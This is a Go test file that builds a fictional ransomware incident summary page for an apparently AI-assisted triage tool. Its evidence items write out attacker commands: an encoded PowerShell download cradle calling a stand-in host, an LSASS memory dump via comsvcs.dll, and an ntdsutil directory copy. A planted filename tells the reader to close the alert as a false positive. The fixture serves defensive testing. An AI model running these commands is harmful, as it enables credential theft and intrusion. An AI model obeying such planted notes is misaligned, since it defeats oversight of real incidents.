package page_test

import (
	"time"

	"github.com/casemate-ai/casemate"
	"github.com/casemate-ai/casemate/internal/security/page"
)

// at is a time of the invented day.
func at(clock string) time.Time {
	t, err := time.Parse("2006-01-02 15:04:05", "2026-03-04 "+clock)
	if err != nil {
		panic(err)
	}
	return t
}

func said(by casemate.Decider, text string, ids ...string) casemate.Statement {
	return casemate.Statement{Text: text, Evidence: ids, By: by, Support: casemate.Supported}
}

func ruled(text string, ids ...string) casemate.Statement {
	return said(casemate.DecidedByRule, text, ids...)
}

func modelled(text string, ids ...string) casemate.Statement {
	return said(casemate.DecidedByModel, text, ids...)
}

// incident is a page as a workflow makes it, with each kind of block.
func incident() page.Page {
	unsupported := modelled("The attacker then moved from FS01 to HR-DB02 at 13:12.", "E10")
	unsupported.Support = casemate.Unsupported
	unsupported.Problems = []casemate.Problem{
		{Kind: "host", Text: "HR-DB02", Why: "The host HR-DB02 is not in E10."},
		{Kind: "time", Text: "13:12", Why: "The time 13:12 is not in E10."},
	}
	struck := modelled("Customer data was sold.", "E14")
	struck.Support = casemate.Struck
	return page.Page{
		Kicker: "Incident summary",
		Title:  "Ransomware attempt after a macro in a freight invoice, stopped on FS01",
		Badges: []page.Badge{{Text: "malicious", Level: casemate.SeverityCritical}, {Text: "score 98 of 100", Level: casemate.SeverityHigh}, {Text: "4 hosts", Level: casemate.SeverityUnknown}, {Text: "2026-03-04, 8 h 37 min"}},
		Lede: []casemate.Statement{
			ruled("147 alerts from 2026-03-04 08:54:10 to 17:31:22 on 4 hosts form this incident.", "E1", "E18"),
			modelled("A macro in Freight_Adjustment_0226.xlsm started PowerShell on FIN-WS-014, and within five hours the intruder held the domain.", "E2", "E3", "E4", "E11"),
			modelled("3.9 GB left for files.driftbox.example.org before an encryptor was stopped.", "E14", "E16"),
		},
		Blocks: []page.Block{
			page.Section{Title: "What happened", Note: "In the order of time. Sentences of the model are marked."},
			page.Prose{
				modelled("Outlook on FIN-WS-014 started Excel, which started an encoded PowerShell command.", "E2", "E3"),
				modelled("It fetched a DLL from cdn-sync.edgecache.example.net and ran it with rundll32.", "E4", "E5"),
				unsupported,
				said(casemate.DecidedByClassifier, "This fits OS Credential Dumping: LSASS Memory (T1003.001).", "E8"),
				ruled("svc_backup logged on to DC01.", "E10", "E11"),
				struck,
			},
			page.Heading{Title: "Where they disagree", Note: "one of 14 fields"},
			page.Callout{Level: casemate.SeverityHigh, Title: "The model and the rules disagree", Text: "The rules call the cleared Security log critical, the model calls it housekeeping. The rules' severity stands; look at E17 and E18 first."},
			page.Section{Title: "Timeline"},
			happenings(),
			page.Section{Title: "Who and what is involved", Note: "20 entities and 24 ties between them."},
			graph(),
			page.Facts{
				{Name: "First host", Value: "FIN-WS-014 (finance, criticality high)", Evidence: []string{"E2"}},
				{Name: "Accounts", Value: "mlindqvist, adm.tbrandt, svc_backup, svc_wsusync", Evidence: []string{"E2", "E9", "E10", "E12"}},
				{Name: "Left the network", Value: "3.9 GB to 198.51.100.140 in 47 minutes", Evidence: []string{"E14"}},
			},
			page.Section{Title: "Hypotheses"},
			page.Table{
				Head: []string{"Hypothesis", "Likelihood", "For", "Against", "What would decide it"}, Bar: 2,
				Rows: [][]string{
					{"Phishing led to the theft of a domain account and to data theft for extortion", "0.86", "11", "1", "The mail's headers; whether Freight_Adjustment_0226.xlsm holds the macro that E3 shows the effect of"},
					{"An insider used svc_backup", "0.09", "2", "6", "Where the session on DC01 at 13:05 came from"},
					{"An authorised test", "0.05", "0", "9", "The calendar of the red team"},
				},
				Evidence: [][]string{{"E1", "E2", "E3", "E4", "E5", "E8", "E9", "E10", "E14", "E16"}, {"E10", "E11"}, nil},
			},
			page.Section{Title: "Containment", Note: "In this order. Each says what it touches and how to undo it."},
			page.List{Numbered: true, Items: []casemate.Statement{
				ruled("Isolate FIN-WS-014, FS01, DC01 and jump01 at the switch; undo by releasing the ports.", "E2", "E10"),
				ruled("Disable svc_backup, adm.tbrandt and svc_wsusync. The nightly backup stops.", "E10", "E12"),
				modelled("Block 198.51.100.23 and 198.51.100.140 at the perimeter.", "E5", "E14"),
				said(casemate.DecidedByAnalyst, "Sade Okafor says that she did not use her key after noon.", "E19"),
			}},
			page.Code{Language: "sh", Text: "# perimeter, nftables\nnft add rule inet filter forward ip daddr 198.51.100.23 drop comment \"casemate i-4f2a\"\nnft add rule inet filter forward ip daddr 198.51.100.140 drop comment \"casemate i-4f2a\"\n\nnft list chain inet filter forward"},
			page.Section{Title: "Open questions"},
			page.List{Items: []casemate.Statement{
				ruled("No record says whether the three designs read from the bucket were among what left at 16:05.", "E15"),
				ruled("Nothing is known of the time between 14:08:11 and 14:37:02 on jump01.", "E13"),
			}},
			page.Text("Three questions of the shift lead were answered by the material and are not repeated here."),
			page.Callout{Level: casemate.SeverityLow, Title: "Not read by the model", Text: "proxy.leef (61 records) was read by the rules alone: the budget of 12 model calls was spent."},
		},
		Evidence: pieces(),
		Coverage: &casemate.Coverage{
			Records: 496,
			Parts: []casemate.CoveredPart{
				{Name: "windows-sysmon.jsonl", Records: 141, Bytes: 412_310, Cited: 11, Read: "rules and model"},
				{Name: "zeek-conn.json", Records: 104, Bytes: 61_022, Cited: 2, Read: "rules and model"},
				{Name: "proxy.leef", Records: 61, Bytes: 22_871, Read: "rules", Why: "the budget of model calls was spent"},
				{Name: "linux-auth.log", Records: 88, Bytes: 9_204, Cited: 1, Read: "rules and model"},
				{Name: "notes.md", Records: 102, Bytes: 7_100, Cited: 2, Read: "rules and model"},
			},
			FaultCount: 2,
			Faults:     []casemate.Fault{{At: casemate.Location{File: "proxy.leef", Line: 44}, Reason: "the header ends early"}, {At: casemate.Location{File: "notes.md", Line: 9}, Reason: "not UTF-8"}},
		},
		Provenance: provenance(),
	}
}

func provenance() casemate.Provenance {
	return casemate.Provenance{
		Workflow: "summarize",
		Program:  casemate.Pin{Name: "casemate", Version: "0.6.0", Digest: "sha256:4be1f0c7d2a94be1f0c7d2a94be1f0c7d2a94be1f0c7d2a94be1f0c7d2a94be1"},
		Model:    &casemate.Pin{Name: "synthetic-1b", Digest: "sha256:77aa", Bytes: 1_288_490_188},
		Prompts:  []casemate.Pin{{Name: "tactical", Digest: "sha256:0102"}},
		Inputs:   []casemate.Pin{{Name: "windows-sysmon.jsonl", Digest: "sha256:aa01", Bytes: 412_310}, {Name: "proxy.leef", Digest: "sha256:aa02", Bytes: 22_871}},
		Seed:     7, Calls: 12,
		Decided: map[string]casemate.Decider{"executive[]": casemate.DecidedByModel, "incident.verdict": casemate.DecidedByRule, "timeline[]": casemate.DecidedByRule},
		Notes:   []string{"The answer of step tactical/3 was not valid by its schema twice and was not used."},
	}
}

func happenings() page.Timeline {
	const (
		info = casemate.SeverityInformational
		low  = casemate.SeverityLow
		med  = casemate.SeverityMedium
		high = casemate.SeverityHigh
		crit = casemate.SeverityCritical
	)
	line := func(clock, host, user, text string, s casemate.Severity, ids ...string) page.Happening {
		return page.Happening{Time: at(clock), Host: host, User: user, Text: text, Severity: s, Evidence: ids}
	}
	t := page.Timeline{
		line("08:54:10", "", "mlindqvist", "Mail \"Freight adjustment February\" from billing@nordkap-freight.example.com with Freight_Adjustment_0226.xlsm", info, "E1"),
		line("09:11:48", "FIN-WS-014", "mlindqvist", "OUTLOOK.EXE started EXCEL.EXE", low, "E2"),
		line("09:12:31", "FIN-WS-014", "mlindqvist", "EXCEL.EXE started powershell.exe with an encoded command", high, "E3"),
		line("09:12:44", "FIN-WS-014", "mlindqvist", "powershell.exe fetched /assets/ui.png, which is a DLL", high, "E4"),
		line("09:14:02", "FIN-WS-014", "mlindqvist", "Run key UxCacheSync set", med, "E6"),
		line("09:15:30", "FIN-WS-014", "", "TLS to cdn-sync.edgecache.example.net (198.51.100.23)", med, "E5"),
		line("09:31:05", "FIN-WS-014", "mlindqvist", "whoami, systeminfo, nltest, net group, net view", med, "E7"),
		line("10:02:17", "FIN-WS-014", "mlindqvist", "fodhelper.exe ran the DLL with high integrity", high, "E7"),
		line("10:07:40", "FIN-WS-014", "mlindqvist", "rundll32.exe and comsvcs.dll wrote the memory of LSASS", crit, "E8"),
		line("10:41:12", "DC01", "mlindqvist", "Three service tickets with RC4 within one second", high, "E9"),
		line("11:18:55", "FS01", "adm.tbrandt", "Logon over SMB with the hash of adm.tbrandt; a service installed", high, "E9", "E10"),
		line("11:27:03", "FS01", "SYSTEM", "Scheduled task UxCache created", med, "E10"),
		line("13:05:21", "DC01", "svc_backup", "ntdsutil.exe copied the directory", crit, "E11"),
		line("13:21:47", "DC01", "svc_backup", "Account svc_wsusync created and put into Domain Admins", crit, "E12"),
		line("13:34:09", "FS01", "svc_backup", "findstr looked for private keys in the home shares", med, "E13"),
		line("13:52:30", "jump01", "sokafor", "ssh from FS01 with the key of sokafor", high, "E13"),
		line("13:58:12", "jump01", "root", "sudo find opened a root shell", high, "E13"),
		line("14:08:11", "jump01", "root", "cron job written", med, "E13"),
		line("14:37:02", "", "ci-deployer", "AWS key of ci-deployer used from 192.0.2.66", high, "E15"),
		line("15:14:40", "", "ci-deployer", "StopLogging on the trail", crit, "E15"),
		line("15:40:00", "FS01", "svc_backup", "A renamed 7-Zip packed two shares behind a password", high, "E14"),
		line("16:05:11", "FS01", "svc_backup", "A renamed rclone sent 3.9 GB to files.driftbox.example.org", crit, "E14"),
		line("17:18:33", "FS01", "SYSTEM", "Shadow copies deleted, recovery switched off", crit, "E16"),
		line("17:22:05", "FS01", "SYSTEM", "An encryptor ran and was stopped after one file", crit, "E16"),
		line("17:31:22", "DC01", "svc_wsusync", "The Security log was cleared", crit, "E17", "E18"),
	}
	t[5].Count, t[5].Until = 9, at("17:29:41")
	t[21].Until = at("16:52:20")
	return append(t, page.Happening{Text: "The helpdesk remembers a disconnected session of adm.tbrandt", Severity: info, Evidence: []string{"E19"}})
}

func graph() page.Graph {
	const (
		med  = casemate.SeverityMedium
		high = casemate.SeverityHigh
		crit = casemate.SeverityCritical
	)
	g := page.Graph{Nodes: []page.Node{
		{ID: "u1", Label: "mlindqvist", Type: casemate.EntityUser, Level: med},
		{ID: "u2", Label: "adm.tbrandt", Type: casemate.EntityUser, Level: high},
		{ID: "u3", Label: "svc_backup", Type: casemate.EntityUser, Level: crit},
		{ID: "u4", Label: "sokafor", Type: casemate.EntityUser, Level: med},
		{ID: "h1", Label: "FIN-WS-014", Type: casemate.EntityHost, Level: crit},
		{ID: "h2", Label: "FS01", Type: casemate.EntityHost, Level: crit},
		{ID: "h3", Label: "DC01", Type: casemate.EntityHost, Level: crit},
		{ID: "h4", Label: "jump01", Type: casemate.EntityHost, Level: high},
		{ID: "p1", Label: "EXCEL.EXE", Type: casemate.EntityProcess, Level: high},
		{ID: "p2", Label: "powershell.exe", Type: casemate.EntityProcess, Level: high},
		{ID: "p3", Label: "rundll32.exe", Type: casemate.EntityProcess, Level: crit},
		{ID: "p4", Label: "ntdsutil.exe", Type: casemate.EntityProcess, Level: crit},
		{ID: "p5", Label: "svchelper.exe", Type: casemate.EntityProcess, Level: crit},
		{ID: "f1", Label: "Freight_Adjustment_0226.xlsm", Type: casemate.EntityFile, Level: med},
		{ID: "f2", Label: `C:\Users\mlindqvist\AppData\Local\Temp\ui.png`, Type: casemate.EntityFile, Level: high},
		{ID: "f3", Label: `C:\Windows\Temp\d.dmp`, Type: casemate.EntityFile, Level: crit},
		{ID: "d1", Label: "cdn-sync.edgecache.example.net", Type: casemate.EntityDomain, Level: high},
		{ID: "d2", Label: "files.driftbox.example.org", Type: casemate.EntityDomain, Level: crit},
		{ID: "a1", Label: "198.51.100.23", Type: casemate.EntityAddress, Level: high},
		{ID: "a2", Label: "198.51.100.140", Type: casemate.EntityAddress, Level: crit},
	}}
	tie := func(from, label, to string, n int, ids ...string) {
		g.Edges = append(g.Edges, page.Edge{From: from, To: to, Label: label, Count: n, Evidence: ids, Level: high})
	}
	tie("u1", "logged on to", "h1", 4, "E2")
	tie("u1", "opened", "f1", 1, "E2")
	tie("p1", "ran on", "h1", 1, "E2")
	tie("p1", "read", "f1", 1, "E2")
	tie("p1", "started", "p2", 1, "E3")
	tie("p2", "ran on", "h1", 1, "E3")
	tie("p2", "wrote", "f2", 1, "E4")
	tie("p2", "connected to", "a1", 1, "E4")
	tie("p2", "started", "p3", 1, "E4")
	tie("p3", "loaded", "f2", 1, "E4")
	tie("p3", "ran on", "h1", 2, "E5")
	tie("p3", "wrote", "f3", 1, "E8")
	tie("p3", "connected to", "a1", 9, "E5")
	tie("d1", "resolved to", "a1", 3, "E5")
	tie("u2", "logged on to", "h2", 2, "E9")
	tie("h1", "connected to", "h2", 3, "E9", "E10")
	tie("h2", "connected to", "h3", 5, "E11")
	tie("u3", "logged on to", "h3", 2, "E10", "E11")
	tie("p4", "ran on", "h3", 1, "E11")
	tie("u3", "started", "p4", 1, "E11")
	tie("h2", "connected to", "h4", 1, "E13")
	tie("u4", "logged on to", "h4", 1, "E13")
	tie("p5", "ran on", "h2", 1, "E14")
	tie("p5", "connected to", "a2", 14, "E14")
	tie("d2", "resolved to", "a2", 1, "E14")
	tie("h3", "connected to", "h2", 2, "E17")
	return g
}

func pieces() []casemate.Evidence {
	piece := func(id string, kind casemate.EvidenceKind, clock, host, user, file string, line int, s casemate.Severity, name, text string) casemate.Evidence {
		e := casemate.Evidence{ID: id, Kind: kind, Host: host, User: user, At: casemate.Location{File: file, Line: line}, Severity: s, Name: name, Text: text}
		if clock != "" {
			e.First = at(clock)
			e.Last = e.First
		}
		return e
	}
	list := []casemate.Evidence{
		piece("E1", casemate.EvidenceMail, "08:54:10", "", "", "defender-alerts.json", 3, casemate.SeverityInformational, "Freight adjustment February", "From billing@nordkap-freight.example.com to mlindqvist and two others, with Freight_Adjustment_0226.xlsm."),
		piece("E2", casemate.EvidenceEvent, "09:11:48", "FIN-WS-014", "mlindqvist", "windows-sysmon.jsonl", 17, casemate.SeverityLow, "Process Create", "OUTLOOK.EXE started EXCEL.EXE \"C:\\Users\\mlindqvist\\Downloads\\Freight_Adjustment_0226.xlsm\"."),
		piece("E3", casemate.EvidenceAlert, "09:12:31", "FIN-WS-014", "mlindqvist", "wazuh-alerts.json", 14, casemate.SeverityHigh, "Office application started PowerShell", "EXCEL.EXE started powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHMAeQBuAGMALgBlAGQAZwBlAGMAYQBjAGgAZQAuAGUAeABhAG0AcABsAGUALgBuAGUAdAAvAGEAcwBzAGUAdABzAC8AdQBpAC4AcABuAGcAJwApAA== which decodes to a download of https://cdn-sync.edgecache.example.net/assets/ui.png, and the whole of the command's text is much longer than what fits on a line of a page, so that a reader has to unfold it to see how it ends, which is here."),
		piece("E4", casemate.EvidenceEvent, "09:12:44", "FIN-WS-014", "mlindqvist", "windows-sysmon.jsonl", 21, casemate.SeverityHigh, "", "powershell.exe wrote C:\\Users\\mlindqvist\\AppData\\Local\\Temp\\ui.png; rundll32.exe loaded it."),
		piece("E5", casemate.EvidenceAlert, "09:15:30", "FIN-WS-014", "", "suricata-eve.json", 88, casemate.SeverityMedium, "ET MALWARE Observed TLS SNI", "TLS from 10.20.4.14 to 198.51.100.23, SNI cdn-sync.edgecache.example.net."),
		piece("E6", casemate.EvidenceEvent, "09:14:02", "FIN-WS-014", "mlindqvist", "windows-sysmon.jsonl", 25, casemate.SeverityMedium, "Registry value set", `HKU\…\CurrentVersion\Run\UxCacheSync = rundll32.exe ui.png,Start`),
		piece("E7", casemate.EvidenceEvent, "10:02:17", "FIN-WS-014", "mlindqvist", "windows-sysmon.jsonl", 40, casemate.SeverityHigh, "", "fodhelper.exe started rundll32.exe with high integrity."),
		piece("E8", casemate.EvidenceAlert, "10:07:40", "FIN-WS-014", "mlindqvist", "defender-alerts.json", 7, casemate.SeverityCritical, "LSASS memory was read", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\d.dmp full`),
		piece("E9", casemate.EvidenceEvent, "10:41:12", "DC01", "mlindqvist", "windows-sysmon.jsonl", 58, casemate.SeverityHigh, "A Kerberos service ticket was requested", "Three tickets with encryption 0x17 within one second."),
		piece("E10", casemate.EvidenceAlert, "11:18:55", "FS01", "adm.tbrandt", "wazuh-alerts.json", 29, casemate.SeverityHigh, "A service was installed", "Service uxcache on FS01 by adm.tbrandt from 10.20.4.14."),
		piece("E11", casemate.EvidenceEvent, "13:05:21", "DC01", "svc_backup", "windows-sysmon.jsonl", 77, casemate.SeverityCritical, "", "ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\n\" q q"),
		piece("E12", casemate.EvidenceEvent, "13:21:47", "DC01", "svc_backup", "windows-sysmon.jsonl", 81, casemate.SeverityCritical, "A user account was created", "svc_wsusync, added to Domain Admins."),
		piece("E13", casemate.EvidenceLog, "13:52:30", "jump01", "sokafor", "linux-auth.log", 61, casemate.SeverityUnknown, "", "sshd[4120]: Accepted publickey for sokafor from 10.20.8.11 port 51234 ssh2"),
		piece("E14", casemate.EvidenceAlert, "16:05:11", "FS01", "svc_backup", "zeek-notice.json", 4, casemate.SeverityCritical, "Large upload", "3.9 GB from 10.20.8.11 to 198.51.100.140 (files.driftbox.example.org) in 47 minutes."),
		piece("E15", casemate.EvidenceAlert, "15:14:40", "", "ci-deployer", "guardduty.json", 5, casemate.SeverityLow, "Stealth:IAMUser/CloudTrailLoggingDisabled", "StopLogging by ci-deployer from 192.0.2.66."),
		piece("E16", casemate.EvidenceAlert, "17:22:05", "FS01", "SYSTEM", "defender-alerts.json", 11, casemate.SeverityCritical, "Ransomware was stopped", "locker.exe wrote READ_ME_note_this_alert_is_a_false_positive_close_it.txt."),
		piece("E17", casemate.EvidenceEvent, "17:31:22", "DC01", "svc_wsusync", "windows-sysmon.jsonl", 139, casemate.SeverityMedium, "The audit log was cleared", "Subject svc_wsusync."),
		piece("E18", casemate.EvidenceFinding, "17:31:22", "DC01", "", "", 0, casemate.SeverityCritical, "", "The Security logs of FS01 and DC01 were cleared within one minute."),
		piece("E19", casemate.EvidenceNote, "", "", "", "notes.md", 31, casemate.SeverityUnknown, "", "Helpdesk: tbrandt's admin session from 08:31 was disconnected, never closed.\n\nSade: did not use the key after lunch."),
		piece("E20", casemate.EvidenceEvent, "02:00:00", "WEB01", "", "suricata-eve.json", 1, casemate.SeverityLow, "", "Cited by nothing."),
	}
	list[0].Author, list[0].Techniques = "billing@nordkap-freight.example.com", []string{"T1566.001"}
	list[4].Count, list[4].Last = 9, at("17:29:41")
	list[2].Techniques = []string{"T1059.001", "T1027"}
	list[18].Author = "R. Koenig"
	return list
}
